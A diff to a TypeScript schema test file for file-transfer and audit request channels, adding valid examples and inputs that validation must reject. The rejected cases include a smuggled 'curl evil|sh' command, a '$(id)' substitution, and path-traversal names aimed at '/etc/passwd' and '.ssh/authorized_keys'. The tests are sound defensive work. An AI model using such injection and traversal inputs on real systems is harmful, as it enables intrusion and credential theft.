@@ -59,6 +59,26 @@ const valid: { [C in RequestChannel]: RequestArgs<C> } = {
   'audit.trail': { requestId: 'trail-1', profile: 'prod', region: 'eu-west-1', startTime: Date.now() - 3600_000 },
   'audit.alarmSetup': { profile: 'prod', region: 'eu-west-1', topicArn: 'arn:aws:sns:eu-west-1:123456789012:security-alerts', threshold: 3 },
   'audit.local': { limit: 100 },
+  'files.open': { requestId: 'files-1', hostId: 'h1' },
+  'files.close': { browserId: 'b1' },
+  'files.list': { browserId: 'b1', requestId: 'ls-1', path: 'L2hvbWUvZWMyLXVzZXI=' },
+  'files.stat': { browserId: 'b1', path: 'L2V0Yy9ob3N0cw==' },
+  'files.mkdir': { browserId: 'b1', dir: 'L3RtcA==', name: 'new folder' },
+  'files.rename': { browserId: 'b1', path: 'L3RtcC9h', name: 'b.txt' },
+  'files.delete': { browserId: 'b1', requestId: 'rm-1', paths: ['L3RtcC9h'] },
+  'files.chmod': { browserId: 'b1', path: 'L3RtcC9h', mode: 0o640 },
+  'files.download': { hostId: 'h1', paths: ['L3Zhci9sb2cvbWVzc2FnZXM='], conflict: 'ask' },
+  'files.upload': { hostId: 'h1', dir: 'L3RtcA==', picks: ['l1'], sudo: false },
+  'files.uploadStream': { target: { region: 'eu-west-1', instanceId: 'i-0123456789abcdef0' }, dir: 'L3RtcA==', files: [{ name: 'site/index.html', size: 1200, executable: false }] },
+  'files.push': { transferId: 'x1', file: 0, offset: 0, data: 'aGVsbG8=' },
+  'files.copy': { hostId: 'h1', paths: ['L2V0Yy9uZ2lueA=='], to: { hostId: 'h2', dir: 'L2V0Yw==' }, conflict: 'keepBoth' },
+  'files.pick': { folders: true },
+  'files.downloads': { choose: false },
+  'files.transfers': {},
+  'files.cancel': { transferId: 'x1' },
+  'files.retry': { transferId: 'x1' },
+  'files.answer': { transferId: 'x1', choice: 'replace', applyToAll: true },
+  'files.clear': {},
 };
 
 /** One valid example per notification channel (one-way messages, no result). */
@@ -130,6 +150,17 @@ describe('the contract schemas', () => {
       ['audit.alarmSetup', { profile: 'p', region: 'eu-west-1', trailBucket: "logs'; curl evil|sh; '" }],
       ['audit.alarmSetup', { profile: 'p', region: 'eu-west-1', topicArn: 'arn:aws:sns:eu-west-1:123456789012:x $(id)' }],
       ['audit.alarmSetup', { profile: 'p', region: 'eu-west-1', threshold: 0 }],
+      // Remote names travel as base64 bytes, nothing else.
+      ['files.list', { browserId: 'b1', requestId: 'l', path: '/etc/passwd' }],
+      ['files.list', { browserId: 'b1', requestId: 'l' }],
+      // A name typed by the person is one name: no slash, no . or .., no NUL.
+      ['files.rename', { browserId: 'b1', path: 'L3RtcC9h', name: '../../etc/passwd' }],
+      ['files.mkdir', { browserId: 'b1', dir: 'L3RtcA==', name: '..' }],
+      ['files.mkdir', { browserId: 'b1', dir: 'L3RtcA==', name: 'a\u0000b' }],
+      // A streamed upload's files stay inside the folder they go to.
+      ['files.uploadStream', { hostId: 'h1', dir: 'L3RtcA==', files: [{ name: '../.ssh/authorized_keys', size: 1 }] }],
+      ['files.uploadStream', { hostId: 'h1', dir: 'L3RtcA==', files: [{ name: '/etc/passwd', size: 1 }] }],
+      ['files.push', { transferId: 'x1', file: 0, offset: 0, data: 'x'.repeat(700_001) }],
     ];
     for (const [ch, args] of bad) expect(requests[ch].args.safeParse(args).success, `${ch} ${JSON.stringify(args).slice(0, 80)}`).toBe(false);
   });
